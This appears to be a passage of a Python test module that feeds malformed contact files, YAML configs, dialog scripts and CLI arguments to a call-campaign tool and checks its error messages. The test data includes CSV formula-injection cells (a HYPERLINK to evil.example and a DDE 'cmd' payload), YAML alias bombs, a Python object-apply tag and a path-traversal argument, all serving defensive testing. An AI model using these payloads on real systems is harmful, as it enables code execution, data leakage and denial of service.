"""The bad-input corpus: contact files, config files, scripts and CLI arguments (see harness.py).

Each case names what the message must name (the file, row, key, option or folder), never the wording.
"""

from __future__ import annotations

import atexit
import csv
import io
import re
import shutil
import sqlite3
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests import import_corpus
from tests.bad_inputs.harness import Case

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
SCRIPT = ROOT / "dialogs" / "scripts" / "covid_screening.yaml"

SEED_CSV = (
    "姓名,手机号,社区,地址,身份证号,备注,标签\n"
    "张三,13800138000,阳光社区,幸福路1号,11010519491231002X,独居,返乡\n"
    '"=HYPERLINK(""http://evil.example/?x""&A1)",13900139000,阳光社区,,,,\n'
    "+cmd|' /C calc'!A0,13700137000,和平村,-2+3,,,\n"
    '王五,"13600136000/15012345678",和平村,@SUM(1),,,\n'
    "李四,010-65529988,和平村,,440524198801010013,,\n"
)


def seed_commands(folder: Path) -> list[list[str]]:
    """CLI commands that build the seed store (residents and a finished campaign c1)."""
    (folder / "seed.csv").write_text(SEED_CSV, encoding="utf-8")
    db = f"sqlite:///{folder / 'seed.db'}"
    return [
        ["--db", db, "contacts", "import", str(folder / "seed.csv")],
        ["--db", db, "campaign", "create", "c1"],
        ["--db", db, "campaign", "start", "c1"],
        ["--db", db, "run", "--virtual-time", "--start", "2026-11-23T08:30+08:00"],
    ]


# --------------------------------------------------------------------------- builders

BILLION_LAUGHS = (
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)
    )
    + "j: [*i,*i,*i,*i,*i,*i,*i,*i,*i]\n"
)
RECURSIVE_ALIAS = "a: &a\n  b: *a\n"


def deep_list(n: int) -> str:
    return "x: " + "[" * n + "]" * n + "\n"


def deep_map(n: int) -> str:
    return "x: " + "{a: " * n + "1" + "}" * n + "\n"


def big_file(size: int, line: str = "# padding padding padding padding padding padding\n") -> Callable[[Path], None]:
    def write(p: Path) -> None:
        block = (line * (1 << 14)).encode()
        with p.open("wb") as f:
            left = size
            while left > 0:
                f.write(block[:left])
                left -= len(block)

    return write


def csv_text(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    return buf.getvalue().encode(encoding)


def multi_sheet(p: Path) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "说明"
    ws.append(["本表为返乡人员名单"])
    b1 = wb.create_sheet("第一批")
    b1.append(["姓名", "手机号"])
    b1.append(["赵一", "13800138000"])
    b2 = wb.create_sheet("第二批")
    b2.append(["姓名", "手机号"])
    b2.append(["钱二", "13900139000"])
    wb.save(p)


def foreign_sqlite(p: Path) -> None:
    con = sqlite3.connect(p)
    con.execute("CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT)")
    con.execute("INSERT INTO customers (name) VALUES ('x')")
    con.commit()
    con.close()


def copy_of(path: Path) -> Callable[[Path], None]:
    def write(p: Path) -> None:
        p.write_bytes(path.read_bytes())

    return write


def script_with(old: str, new: str) -> Callable[[Path], None]:
    def write(p: Path) -> None:
        text = SCRIPT.read_text(encoding="utf-8")
        assert old in text, old
        p.write_text(text.replace(old, new, 1), encoding="utf-8")

    return write


def _runnable(cell: str) -> bool:
    """A CSV cell a spreadsheet would run as a formula (a plain signed number is just a number)."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?\d+(?:\.\d+)?", cell)


def _line_of(text: str) -> int:
    """The 1-based line of the shipped script where `text` starts (after its leading newline, if any)."""
    body = SCRIPT.read_text(encoding="utf-8")
    return body[: body.index(text) + (1 if text.startswith("\n") else 0)].count("\n") + 1


def rejects_formula_safe(folder: Path, _out: str) -> str | None:
    for p in folder.glob("*.rejects.csv"):
        for row in csv.reader(p.read_text(encoding="utf-8-sig").splitlines()):
            for cell in row:
                if _runnable(cell):
                    return f"{p.name}: cell {cell!r} can run as a formula"
    return None


def export_formula_safe(name: str) -> Callable[[Path, str], str | None]:
    def check(folder: Path, _out: str) -> str | None:
        p = folder / name
        if not p.exists():
            return f"{name} was not written"
        for row in csv.reader(p.read_text(encoding="utf-8-sig").splitlines()):
            for cell in row:
                if _runnable(cell):
                    return f"{name}: cell {cell!r} can run as a formula"
        return None

    return check


def masked_listing(_folder: Path, out: str) -> str | None:
    return None if "****" in out else "the listing shows no masked number"


# --------------------------------------------------------------------------- the cases

DB = ["--db", "{db}"]


_CORPUS: dict[str, Path] = {}


def _import_corpus() -> dict[str, Path]:
    """The contact-file corpus of tests/import_corpus.py, written once per process into a temporary folder."""
    if not _CORPUS:
        folder = Path(tempfile.mkdtemp(prefix="import_corpus_"))
        atexit.register(shutil.rmtree, folder, True)
        _CORPUS.update(import_corpus.build(folder))
    return _CORPUS


def import_cases() -> list[Case]:
    cases: list[Case] = []
    built = _import_corpus()
    errors = {
        "wrong_encoding": ["wrong_encoding.csv", "2"],
        "empty_csv": ["empty.csv"],
        "blank_csv": ["blank.csv"],
        "no_phone_column": ["no_phone.csv"],
        "html_csv": ["really_html.csv"],
        "html_xlsx": ["really_html.xlsx"],
        "binary_csv": ["binary.csv"],
        "xlsx_named_csv": ["workbook_named.csv"],
        "zero_xlsx": ["zero.xlsx"],
        "corrupt_xlsx": ["corrupt.xlsx"],
        "old_xls": ["old.xls"],
        "unknown_ext": ["list.pdf"],
        "xls_is_really_ole_named_xlsx": ["old_named.xlsx"],
        "broken_quote": ["broken_quote.csv", "2"],
    }
    for key, expect in errors.items():
        name = built[key].name
        cases.append(Case(f"import-{key}", [*DB, "contacts", "import", f"{{dir}}/{name}"], 2, expect,
                          {name: copy_of(built[key])}, absent=["*.rejects.*", ".*.tmp"]))
    accepted = ["utf8", "bom", "gbk", "gb18030", "utf16_tab", "semicolon", "duplicates", "bad_phones", "bad_fields",
                "floats_csv", "openpyxl_xlsx", "merged_header", "formulas", "floats_xlsx", "bad_dimension",
                "header_only"]
    for key in accepted:
        name = built[key].name
        cases.append(Case(f"import-{key}", [*DB, "contacts", "import", f"{{dir}}/{name}"], 0, ["导入完成"],
                          {name: copy_of(built[key])}, changes_store=True, absent=[".*.tmp"]))
    header = ["姓名", "手机号", "社区", "地址", "身份证号", "备注", "标签"]
    ok = ["张三", "13800138000", "阳光社区", "", "", "", ""]
    zh = "\n".join(",".join(r) for r in [header, ok]) + "\n"
    cases += [
        Case("import-utf16le-no-bom", [*DB, "contacts", "import", "{dir}/u16le.csv"], 0, ["导入完成"],
             {"u16le.csv": zh.encode("utf-16-le")}, changes_store=True),
        Case("import-utf16be-no-bom", [*DB, "contacts", "import", "{dir}/u16be.csv"], 0, ["导入完成"],
             {"u16be.csv": zh.encode("utf-16-be")}, changes_store=True),
        Case("import-utf16le-no-bom-tabs", [*DB, "contacts", "import", "{dir}/u16.txt"], 0, ["导入完成"],
             {"u16.txt": zh.replace(",", "\t").encode("utf-16-le")}, changes_store=True),
        Case("import-bad-byte-row-4", [*DB, "contacts", "import", "{dir}/bad4.csv"], 2, ["bad4.csv", "4"],
             {"bad4.csv": ("姓名,手机号\n甲,13800138000\n乙,13900139000\n").encode() + b"\xff\xfe\x81,13700137000\n"}),
        Case("import-latin1", [*DB, "contacts", "import", "{dir}/latin1.csv"], 2, ["latin1.csv", "3"],
             {"latin1.csv": "name,phone\nA,13800138000\nJos\xe9\xff\xfe,13900139000\n".encode("latin-1")}),
        Case("import-encrypted-xlsx", [*DB, "contacts", "import", "{dir}/encrypted.xlsx"], 2,
             ["encrypted.xlsx", "password"], {"encrypted.xlsx": copy_of(HERE / "encrypted.xlsx")}),
        Case("import-encrypted-xlsx-named-xls", [*DB, "contacts", "import", "{dir}/encrypted.xls"], 2,
             ["encrypted.xls"], {"encrypted.xls": copy_of(HERE / "encrypted.xlsx")}),
        Case("import-multi-sheet", [*DB, "contacts", "import", "{dir}/multi.xlsx"], 0, ["第一批", "第二批", "说明"],
             {"multi.xlsx": multi_sheet}, changes_store=True,
             check=lambda _f, out: None if "新增 2 人" in out or "更新 2 人" in out else "both sheets must be imported"),
        Case("import-sheet-option", [*DB, "contacts", "import", "{dir}/multi.xlsx", "--sheet", "第二批"], 0,
             ["第二批"], {"multi.xlsx": multi_sheet}, changes_store=True,
             check=lambda _f, out: None if "新增 1 人" in out or "更新 1 人" in out
             else "only the named sheet must be imported"),
        Case("import-sheet-missing", [*DB, "contacts", "import", "{dir}/multi.xlsx", "--sheet", "第三批"], 2,
             ["第三批", "第一批"], {"multi.xlsx": multi_sheet}),
        Case("import-sheet-without-phones", [*DB, "contacts", "import", "{dir}/multi.xlsx", "--sheet", "说明"], 2,
             ["说明"], {"multi.xlsx": multi_sheet}),
        Case("import-sheet-on-csv", [*DB, "contacts", "import", "{dir}/a.csv", "--sheet", "x"], 2, ["--sheet"],
             {"a.csv": zh}),
        Case("import-long-name", [*DB, "contacts", "import", "{dir}/long.csv"], 0, ["拒绝 1 行"],
             {"long.csv": csv_text([header, ["名" * 1000, "13800138000", "", "", "", "", ""]])}, changes_store=True),
        Case("import-long-community-cell", [*DB, "contacts", "import", "{dir}/long.csv"], 0, ["拒绝 1 行"],
             {"long.csv": csv_text([header, ["张三", "13800138000", "社" * 1000, "", "", "", ""]])},
             changes_store=True),
        Case("import-long-address", [*DB, "contacts", "import", "{dir}/long.csv"], 0, ["拒绝 1 行"],
             {"long.csv": csv_text([header, ["张三", "13800138000", "", "路" * 1000, "", "", ""]])},
             changes_store=True),
        Case("import-long-note", [*DB, "contacts", "import", "{dir}/long.csv"], 0, ["拒绝 1 行"],
             {"long.csv": csv_text([header, ["张三", "13800138000", "", "", "", "注" * 5000, ""]])},
             changes_store=True),
        Case("import-long-tag", [*DB, "contacts", "import", "{dir}/long.csv"], 0, ["拒绝 1 行"],
             {"long.csv": csv_text([header, ["张三", "13800138000", "", "", "", "", "标" * 500]])},
             changes_store=True),
        Case("import-many-tags", [*DB, "contacts", "import", "{dir}/long.csv"], 0, ["拒绝 1 行"],
             {"long.csv": csv_text([header, ["张三", "13800138000", "", "", "", "", ",".join(f"t{i}" for i in range(200))]])},
             changes_store=True),
        Case("import-long-community-option", [*DB, "contacts", "import", "{dir}/a.csv", "--community", "社" * 1000], 2,
             ["--community"], {"a.csv": zh}),
        Case("import-nul-in-cell", [*DB, "contacts", "import", "{dir}/nul.csv"], 2, ["nul.csv", "line 2"],
             {"nul.csv": "姓名,手机号\n张\x00三,13800138000\n".encode()}),
        Case("import-huge-cell", [*DB, "contacts", "import", "{dir}/huge.csv"], 2, ["huge.csv", "2"],
             {"huge.csv": ("姓名,手机号\n" + "x" * 300_000 + ",13800138000\n").encode()}),
        Case("import-formula-rejects", [*DB, "contacts", "import", "{dir}/f.csv"], 0, ["拒绝"],
             {"f.csv": csv_text([["姓名", "手机号", "备注"], ["=HYPERLINK(\"http://x\")", "123", "+1+1"],
                                 ["@SUM(A1)", "abc", "-5"], ["\tTAB", "", "\rCR"]])},
             changes_store=True, check=rejects_formula_safe),
        Case("import-missing-file", [*DB, "contacts", "import", "{dir}/nosuch.csv"], 2, ["nosuch.csv"]),
        Case("import-directory", [*DB, "contacts", "import", "{dir}/sub"], 2, ["sub"],
             {"sub/keep.txt": "x"}),
        Case("import-rejects-folder-missing", [*DB, "contacts", "import", "{dir}/bad.csv", "--rejects",
                                               "{dir}/nosuch/r.csv"], 2, ["nosuch"],
             {"bad.csv": csv_text([["姓名", "手机号"], ["甲", "abc"]])}, absent=["nosuch"]),
        Case("import-rejects-wrong-format", [*DB, "contacts", "import", "{dir}/bad.csv", "--rejects", "{dir}/r.xlsx"],
             2, ["--rejects"], {"bad.csv": csv_text([["姓名", "手机号"], ["甲", "abc"]])}),
        Case("import-rejects-is-input", [*DB, "contacts", "import", "{dir}/bad.csv", "--rejects", "{dir}/bad.csv"],
             2, ["--rejects"], {"bad.csv": csv_text([["姓名", "手机号"], ["甲", "abc"]])}),
        Case("import-multi-number-listing", [*DB, "contacts", "list"], 0, [], check=masked_listing),
        Case("import-multi-number-listing-json", [*DB, "contacts", "list", "--json"], 0, [], check=masked_listing),
    ]
    return cases


def _cfg(case_id: str, text: str | bytes | Callable[[Path], None], expect: list[str],
         args: list[str] | None = None, code: int = 2, db: bool = True) -> Case:
    return Case(case_id, ["--config", "{dir}/config.yaml", *(DB if db else []), *(args or ["config", "show"])],
                code, ["config.yaml", *expect], {"config.yaml": text})


def config_cases() -> list[Case]:
    c = [
        _cfg("config-billion-laughs", BILLION_LAUGHS, []),
        _cfg("config-billion-laughs-in-section", "campaign:\n  holidays: &h [" + ",".join(["2026-01-01"] * 9) + "]\n"
             + "".join(f"  x{i}: &x{i} [{','.join(['*' + ('h' if i == 0 else f'x{i - 1}')] * 9)}]\n" for i in range(8)), []),
        _cfg("config-recursive-alias", RECURSIVE_ALIAS, []),
        _cfg("config-recursive-alias-list", "a: &a [*a]\n", []),
        _cfg("config-deep-list", deep_list(5000), []),
        _cfg("config-deep-map", deep_map(5000), []),
        _cfg("config-deep-block", "".join("  " * i + f"k{i}:\n" for i in range(3000)) + "  " * 3000 + "v\n", []),
        _cfg("config-nul-byte", b"database:\n  echo: false\x00\n", []),
        _cfg("config-nul-in-value", b"telephony:\n  caller_id: \"123\\0\"\n", []),
        _cfg("config-big-file", big_file(20 * 1024 * 1024), []),
        _cfg("config-not-utf8", "telephony:\n  caller_id: 名字\n".encode("gbk"), []),
        _cfg("config-utf16", "telephony:\n  caller_id: '12320'\n".encode("utf-16"), []),
        _cfg("config-holiday-feb-30", "campaign:\n  holidays: [2026-02-30]\n", [":2", "campaign.holidays"]),
        _cfg("config-holiday-text", "campaign:\n  holidays: [春节]\n", [":2", "campaign.holidays"]),
        _cfg("config-holiday-number", "campaign:\n  holidays: [20260101]\n", [":2", "campaign.holidays"]),
        _cfg("config-timezone", "campaign:\n  timezone: Mars/Olympus\n", [":2", "campaign.timezone"]),
        _cfg("config-timezone-number", "campaign:\n  timezone: 8\n", [":2", "campaign.timezone"]),
        _cfg("config-window-hours", "campaign:\n  windows:\n    daily: ['25:00-26:00']\n", [":3", "campaign.windows"]),
        _cfg("config-window-reversed", "campaign:\n  windows:\n    daily: ['12:00-09:00']\n", [":3", "campaign.windows"]),
        _cfg("config-window-day", "campaign:\n  windows:\n    funday: ['09:00-12:00']\n", [":3", "campaign.windows"]),
        _cfg("config-window-text", "campaign:\n  windows:\n    daily: 09:00-12:00\n", ["campaign.windows"]),
        _cfg("config-window-garbage", "campaign:\n  windows:\n    daily: ['morning']\n", [":3", "campaign.windows"]),
        _cfg("config-sms-window", "sms:\n  window: 25:00-99:00\n", [":2", "sms.window"]),
        _cfg("config-retry-attempts", "campaign:\n  retry:\n    max_attempts_total: 99\n", [":3", "max_attempts_total"]),
        _cfg("config-retry-delay", "campaign:\n  retry:\n    busy_s: 5\n", [":3", "busy_s"]),
        _cfg("config-pacing", "campaign:\n  pacing:\n    calls_per_second: -1\n", [":3", "calls_per_second"]),
        _cfg("config-logging-level", "logging:\n  level: LOUD\n", [":2", "logging.level"]),
        _cfg("config-unknown-key", "database:\n  eccho: true\n", [":2", "database.eccho"]),
        _cfg("config-unknown-section", "databse:\n  url: x\n", [":1", "databse"]),
        _cfg("config-duplicate-key", "database:\n  echo: true\n  echo: false\n", [":3", "database.echo"]),
        _cfg("config-secret", "telephony:\n  ami:\n    secret: hunter2\n", [":3", "telephony.ami.secret"]),
        _cfg("config-db-password", "database:\n  url: postgresql://u:hunter2@localhost/x\n", [":2", "database.url"]),
        _cfg("config-top-list", "- a\n- b\n", []),
        _cfg("config-top-scalar", "hello\n", []),
        _cfg("config-tab-indent", "database:\n\techo: true\n", ["line 2"]),
        _cfg("config-unclosed", "campaign:\n  holidays: [2026-01-01\n", []),
        _cfg("config-port-text", "telephony:\n  ami:\n    port: abc\n", [":3", "telephony.ami.port"]),
        _cfg("config-port-range", "telephony:\n  ami:\n    port: 70000\n", [":3", "telephony.ami.port"]),
        _cfg("config-huge-int", "telephony:\n  ami:\n    port: " + "9" * 5000 + "\n", ["telephony.ami.port"]),
        _cfg("config-python-tag", "database:\n  echo: !!python/object/apply:os.system ['true']\n", [":2"]),
        _cfg("config-section-scalar", "database: 5\n", [":1", "database"]),
        _cfg("config-db-unsupported", "database:\n  url: mysql://localhost/x\n", ["mysql"], ["contacts", "list"], db=False),
        Case("config-missing-script", ["--config", "{dir}/config.yaml", *DB, "campaign", "create", "cx"], 2,
             ["nosuch.yaml"], {"config.yaml": "campaign:\n  script: nosuch.yaml\n"}),
        Case("config-directory", ["--config", "{dir}/confdir", "config", "show"], 2, ["confdir"],
             {"confdir/x": "x"}),
        Case("config-missing", ["--config", "{dir}/nosuch.yaml", "config", "show"], 2, ["nosuch.yaml"]),
        Case("config-env-unknown", ["config", "show"], 2, ["OUTREACH_DATABSE__URL"],
             env={"OUTREACH_DATABSE__URL": "sqlite:///x.db"}),
        Case("config-env-bad-port", ["config", "show"], 2, ["OUTREACH_TELEPHONY__AMI__PORT"],
             env={"OUTREACH_TELEPHONY__AMI__PORT": "abc"}),
        Case("config-env-bad-holiday", ["config", "show"], 2, ["OUTREACH_CAMPAIGN__HOLIDAYS"],
             env={"OUTREACH_CAMPAIGN__HOLIDAYS": "[2026-13-01]"}),
        Case("config-env-config-dir", ["config", "show"], 2, ["confdir"], {"confdir/x": "x"},
             env={"OUTREACH_CONFIG": "{dir}/confdir"}),
    ]
    return c


def _script(case_id: str, content: str | bytes | Callable[[Path], None], expect: list[str],
            command: str = "check") -> Case:
    if command == "check":
        args = ["dialog", "check", "{dir}/s.yaml"]
    else:
        args = [*DB, "campaign", "create", "cs", "--script", "{dir}/s.yaml"]
    return Case(f"script-{command}-{case_id}", args, 2, ["s.yaml", *expect], {"s.yaml": content})


def script_cases() -> list[Case]:
    bomb = BILLION_LAUGHS.replace("a: &a", "x: &a")
    small_bomb = (
        'a: &a ["xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"]\n'
        + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 12)}]\n" for i in range(7))
    )
    items: list[tuple[str, str | bytes | Callable[[Path], None], list[str]]] = [
        ("billion-laughs", bomb, []),
        ("alias-bomb-632", small_bomb, []),
        ("recursive-alias", RECURSIVE_ALIAS, []),
        ("recursive-alias-list", "nodes: &n [*n]\n", []),
        ("deep-list", deep_list(5000), []),
        ("deep-map", deep_map(5000), []),
        ("nul-byte", b"name: x\x00\nnodes: {}\n", []),
        ("big-file", big_file(43 * 1024 * 1024), []),
        ("not-utf8", "name: 名字\nnodes: {}\n".encode("gbk"), []),
        ("empty", "", []),
        ("top-list", "- a\n", []),
        ("syntax", "nodes: [\n", []),
        ("tab", "nodes:\n\ta: 1\n", [":2"]),
        ("python-tag", "name: !!python/object/apply:os.system ['true']\nnodes: {}\n", [":1"]),
        ("huge-int", "name: x\nsettings:\n  max_tries: " + "9" * 5000 + "\nnodes: {}\n", [":3"]),
        ("unknown-top-key", script_with("\nstart: ", "\nstrat: x\nstart: "), [f":{_line_of(chr(10) + 'start: ')}"]),
        ("bad-start", script_with("start: greeting", "start: nowhere"), ["nowhere"]),
        ("dangling-next", script_with("yes: intro", "yes: nowhere"), ["nowhere"]),
        ("bad-expect", script_with("expect: yes_no", "expect: maybe"), ["maybe"]),
        ("max-tries", script_with("max_tries: 2", "max_tries: 99"), ["max_tries"]),
        ("no-input", script_with("no_input_s: 6", "no_input_s: abc"), ["no_input_s"]),
        ("spoken-phone", script_with("name: 机主", "name: 机主\n  phone: x"), ["phone"]),
        ("bad-template", script_with("{name}", "{name!r}"), ["name"]),
        ("unknown-template", script_with("{name}", "{nobody}"), ["nobody"]),
        ("duplicate-node", script_with("  family_check:\n", "  greeting:\n    say: x\n    end: completed\n  family_check:\n"),
         ["greeting"]),
        ("long-prompt", script_with("    say: ", "    say: " + "啊" * 20000), ["say"]),
        ("nodes-list", "name: x\nstart: a\nnodes: [1, 2]\n", ["nodes"]),
        ("bool-key", "name: x\nstart: a\nnodes:\n  a:\n    say: hi\n    end: completed\n    true: 1\n", [":7"]),
    ]
    cases = [_script(i, content, expect) for i, content, expect in items]
    for i, content, expect in items:
        if i in ("billion-laughs", "alias-bomb-632", "recursive-alias", "deep-list", "nul-byte", "big-file",
                 "not-utf8", "syntax", "bad-start", "python-tag", "huge-int"):
            cases.append(_script(i, content, expect, command="create"))
    cases += [
        Case("script-check-missing", ["dialog", "check", "{dir}/nosuch.yaml"], 2, ["nosuch.yaml"]),
        Case("script-check-directory", ["dialog", "check", "{dir}/sd"], 2, ["sd"], {"sd/x": "x"}),
        Case("script-try-bomb", ["dialog", "try", "{dir}/s.yaml"], 2, ["s.yaml"], {"s.yaml": small_bomb}),
        Case("script-prompts-check-bomb", ["prompts", "check", "--script", "{dir}/s.yaml"], 2, ["s.yaml"],
             {"s.yaml": small_bomb}),
    ]
    return cases


def cli_cases() -> list[Case]:
    x = ["results", "export", "--campaign", "c1", "--what"]
    cases = [
        # --db
        Case("db-folder-missing-list", ["--db", "sqlite:///{dir}/nosuch/x.db", "contacts", "list"], 2, ["nosuch"],
             absent=["nosuch"]),
        Case("db-folder-missing-import", ["--db", "sqlite:///{dir}/nosuch/x.db", "contacts", "import", "{dir}/a.csv"],
             2, ["nosuch"], {"a.csv": "姓名,手机号\n张三,13800138000\n"}, absent=["nosuch"]),
        Case("db-folder-missing-upgrade", ["--db", "sqlite:///{dir}/nosuch/x.db", "db", "upgrade"], 2, ["nosuch"],
             absent=["nosuch"]),
        Case("db-folder-missing-create", ["--db", "sqlite:///{dir}/nosuch/x.db", "campaign", "create", "c9"], 2,
             ["nosuch"], absent=["nosuch"]),
        Case("db-new-file-list", ["--db", "sqlite:///{dir}/new.db", "contacts", "list"], 2, ["new.db"],
             absent=["new.db"]),
        Case("db-new-file-status", ["--db", "sqlite:///{dir}/new.db", "campaign", "status"], 2, ["new.db"],
             absent=["new.db"]),
        Case("db-new-file-export", ["--db", "sqlite:///{dir}/new.db", *x, "attempts", "--out", "{dir}/a.xlsx"], 2,
             ["new.db"], absent=["new.db", "a.xlsx"]),
        Case("db-text-file-list", ["--db", "sqlite:///{dir}/notes.txt", "contacts", "list"], 2, ["notes.txt"],
             {"notes.txt": "hello, this is not a database\n" * 100}),
        Case("db-text-file-import", ["--db", "sqlite:///{dir}/notes.txt", "contacts", "import", "{dir}/a.csv"], 2,
             ["notes.txt"], {"notes.txt": "hello, this is not a database\n" * 100,
                             "a.csv": "姓名,手机号\n张三,13800138000\n"}),
        Case("db-foreign-sqlite-list", ["--db", "sqlite:///{dir}/foreign.db", "contacts", "list"], 2, ["foreign.db"],
             {"foreign.db": foreign_sqlite}),
        Case("db-foreign-sqlite-import", ["--db", "sqlite:///{dir}/foreign.db", "contacts", "import", "{dir}/a.csv"], 2,
             ["foreign.db"], {"foreign.db": foreign_sqlite, "a.csv": "姓名,手机号\n张三,13800138000\n"},
             check=lambda f, _o: None if "alembic_version" not in sqlite3.connect(f / "foreign.db").execute(
                 "select group_concat(name) from sqlite_master").fetchone()[0] else "a foreign store was migrated"),
        Case("db-directory", ["--db", "sqlite:///{dir}/sub", "contacts", "list"], 2, ["sub"], {"sub/x": "x"}),
        Case("db-unsupported", ["--db", "mysql://localhost/x", "contacts", "list"], 2, ["mysql"]),
        Case("db-garbage-url", ["--db", "::not a url::", "contacts", "list"], 2, ["::not a url::"]),
        Case("db-pg-refused", ["--db", "postgresql://outreach@127.0.0.1:1/x", "contacts", "list"], 2, ["127.0.0.1"]),
        # results export: files
        Case("export-out-folder-missing", [*DB, *x, "attempts", "--out", "{dir}/nosuch/a.xlsx"], 2, ["nosuch"],
             absent=["nosuch"]),
        Case("export-format-vs-ext-csv", [*DB, *x, "attempts", "--format", "csv", "--out", "{dir}/a.xlsx"], 2,
             ["a.xlsx", "csv"], absent=["a.xlsx"]),
        Case("export-format-vs-ext-xlsx", [*DB, *x, "attempts", "--format", "xlsx", "--out", "{dir}/a.csv"], 2,
             ["a.csv", "xlsx"], absent=["a.csv"]),
        Case("export-ext-csv-default", [*DB, *x, "attempts", "--out", "{dir}/a.csv"], 0, ["a.csv"],
             check=lambda f, _o: None if (f / "a.csv").read_bytes().startswith(b"\xef\xbb\xbf")
             else "a.csv is not CSV"),
        Case("export-ext-unknown", [*DB, *x, "attempts", "--out", "{dir}/a.txt"], 2, ["a.txt"], absent=["a.txt"]),
        Case("export-ext-none", [*DB, *x, "attempts", "--out", "{dir}/attempts"], 2, ["attempts"],
             absent=["attempts"]),
        Case("export-out-is-dir", [*DB, *x, "attempts", "--out", "{dir}/sub"], 2, ["sub"], {"sub/x": "x"}),
        Case("export-campaign-missing", [*DB, "results", "export", "--campaign", "nosuch", "--what", "attempts",
                                         "--out", "{dir}/a.xlsx"], 2, ["nosuch"], absent=["a.xlsx", ".*.part"]),
        Case("export-what-bogus", [*DB, *x, "bogus", "--out", "{dir}/a.xlsx"], 2, ["--what"], absent=["a.xlsx"]),
        Case("export-format-bogus", [*DB, *x, "attempts", "--format", "pdf", "--out", "{dir}/a.pdf"], 2,
             ["--format"], absent=["a.pdf"]),
        Case("export-screenings-csv-formulas", [*DB, *x, "screenings", "--format", "csv", "--out", "{dir}/s.csv"], 0,
             ["s.csv"], check=export_formula_safe("s.csv"), absent=[".*.part"]),
        Case("export-attempts-csv-formulas", [*DB, *x, "attempts", "--format", "csv", "--out", "{dir}/a.csv"], 0,
             ["a.csv"], check=export_formula_safe("a.csv"), absent=[".*.part"]),
        Case("export-escalations-csv-formulas", [*DB, *x, "escalations", "--format", "csv", "--out", "{dir}/e.csv"],
             0, ["e.csv"], check=export_formula_safe("e.csv"), absent=[".*.part"]),
        Case("export-xlsx-upper-ext", [*DB, *x, "attempts", "--out", "{dir}/A.XLSX"], 0, ["A.XLSX"]),
        Case("export-unmasked-audited", [*DB, *x, "attempts", "--unmasked", "--out", "{dir}/u.xlsx"], 0, ["u.xlsx"],
             changes_store=True),
        # run
        Case("run-campaign-missing", [*DB, "run", "--campaign", "nosuch", "--virtual-time"], 2, ["nosuch"]),
        Case("run-campaign-missing-2", [*DB, "run", "--campaign", "c1", "--campaign", "ghost", "--virtual-time"], 2,
             ["ghost"]),
        Case("run-bad-start", [*DB, "run", "--virtual-time", "--start", "yesterday"], 2, ["--start"]),
        Case("run-start-no-offset", [*DB, "run", "--virtual-time", "--start", "2026-11-23T08:30"], 2, ["--start"]),
        Case("run-speed-and-virtual", [*DB, "run", "--virtual-time", "--speed", "2"], 2, ["--speed"]),
        # campaign create
        Case("campaign-long-name", [*DB, "campaign", "create", "名" * 1000], 2, ["name"]),
        Case("campaign-long-name-ascii", [*DB, "campaign", "create", "x" * 101], 2, ["name"]),
        Case("campaign-empty-name", [*DB, "campaign", "create", ""], 2, ["name"]),
        Case("campaign-blank-name", [*DB, "campaign", "create", "   "], 2, ["name"]),
        Case("campaign-name-control", [*DB, "campaign", "create", "a\x00b"], 2, ["name"]),
        Case("campaign-long-community", [*DB, "campaign", "create", "cz", "--community", "社" * 1000], 2,
             ["communit"]),
        Case("campaign-long-tag", [*DB, "campaign", "create", "cz", "--tag", "标" * 1000], 2, ["tag"]),
        Case("campaign-long-file", [*DB, "campaign", "create", "cz", "--file", "f" * 1000], 2, ["--file"]),
        Case("campaign-duplicate", [*DB, "campaign", "create", "c1"], 2, ["c1"]),
        Case("campaign-window", [*DB, "campaign", "create", "cz", "--window", "daily=9-12"], 2, ["daily"]),
        Case("campaign-window-day", [*DB, "campaign", "create", "cz", "--window", "someday=09:00-10:00"], 2,
             ["someday"]),
        Case("campaign-window-shape", [*DB, "campaign", "create", "cz", "--window", "09:00-10:00"], 2, ["--window"]),
        Case("campaign-holiday", [*DB, "campaign", "create", "cz", "--holiday", "2026-02-30"], 2, ["2026-02-30"]),
        Case("campaign-timezone", [*DB, "campaign", "create", "cz", "--timezone", "Mars/Olympus"], 2,
             ["Mars/Olympus"]),
        Case("campaign-timezone-path", [*DB, "campaign", "create", "cz", "--timezone", "../../etc/passwd"], 2,
             ["../../etc/passwd"]),
        Case("campaign-max-attempts", [*DB, "campaign", "create", "cz", "--max-attempts", "0"], 2,
             ["--max-attempts"]),
        Case("campaign-cps", [*DB, "campaign", "create", "cz", "--cps", "0"], 2, ["--cps"]),
        Case("campaign-no-match", [*DB, "campaign", "create", "cz", "--community", "火星社区"], 2, ["火星社区"]),
        Case("campaign-script-missing", [*DB, "campaign", "create", "cz", "--script", "{dir}/nosuch.yaml"], 2,
             ["nosuch.yaml"]),
        *[
            Case(f"campaign-{verb}-missing", [*DB, "campaign", verb, "nosuch"], 2, ["nosuch"])
            for verb in ("start", "pause", "resume", "cancel", "status")
        ],
        Case("campaign-start-completed", [*DB, "campaign", "start", "c1"], 2, ["c1"]),
        # contacts list
        Case("list-limit-zero", [*DB, "contacts", "list", "--limit", "0"], 2, ["--limit"]),
        Case("list-limit-text", [*DB, "contacts", "list", "--limit", "many"], 2, ["--limit"]),
        Case("list-masked", [*DB, "contacts", "list"], 0, [], check=masked_listing),
        Case("list-community-long", [*DB, "contacts", "list", "--community", "社" * 1000], 2, ["--community"]),
        # other commands
        Case("dnc-reason-long", [*DB, "dnc", "add", "--phone", "13800138000", "--reason", "因" * 201], 2,
             ["--reason", "原因"]),
        Case("dnc-reason-control", [*DB, "dnc", "add", "--phone", "13800138000", "--reason", "a\x07b"], 2,
             ["--reason"]),
        Case("dnc-reason-blank", [*DB, "dnc", "add", "--phone", "13800138000", "--reason", " "], 2, ["--reason"]),
